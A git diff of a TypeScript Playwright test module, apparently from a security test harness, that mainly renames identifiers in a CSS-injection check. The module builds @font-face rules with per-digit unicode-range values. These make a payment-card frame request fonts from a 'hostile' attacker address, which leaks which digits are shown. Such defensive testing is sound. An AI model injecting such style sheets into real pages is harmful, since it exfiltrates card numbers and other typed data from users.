@@ -1,9 +1,9 @@
 import type { CDPSession, Frame, Page } from 'playwright'
-import type { Arena } from '../arena.ts'
+import type { AttackPages } from '../attack-pages.ts'
 import { BREACH, type Attack } from '../attack.ts'
 
 /** Rules that ask the attacker for a file for each digit that is shown, and for each that a value begins with. */
-const tellTale = (address: string): string =>
+const canary = (address: string): string =>
   Array.from(
     { length: 10 },
     (_, digit) => `@font-face { font-family: told; src: url(${address}/font-${digit}); unicode-range: U+3${digit} }
@@ -22,8 +22,13 @@ async function inject(page: Page, into: Frame | Page, text: string): Promise<CDP
 }
 
 /** Whether such a style sheet in a document tells the attacker what is typed there. */
-export async function tellsDigits({ hostile }: Arena, page: Page, into: Frame | Page, path: string): Promise<boolean> {
-  const session = await inject(page, into, tellTale(hostile.unlisted + path))
+export async function showsDigits(
+  { hostile }: AttackPages,
+  page: Page,
+  into: Frame | Page,
+  path: string,
+): Promise<boolean> {
+  const session = await inject(page, into, canary(hostile.unlisted + path))
   await into.evaluate(async () => {
     while (![...document.fonts].some(({ status }) => status === 'loaded' || status === 'error'))
       await new Promise(requestAnimationFrame)
@@ -36,9 +41,9 @@ export async function tellsDigits({ hostile }: Arena, page: Page, into: Frame | 
 export const injectedStyle: Attack = {
   name: 'injected style',
   does: 'puts a style sheet into the frame, as an extension would, that asks for a file for each digit',
-  async run(arena, { page }) {
+  async run(pages, { page }) {
     const frame = page.frames().find((one) => one.url().endsWith('/card'))!
-    const isTold = await tellsDigits(arena, page, frame, '/styled')
-    return isTold ? [`${BREACH}the frame asked the attacker for files`] : []
+    const isNotified = await showsDigits(pages, page, frame, '/styled')
+    return isNotified ? [`${BREACH}the frame asked the attacker for files`] : []
   },
 }
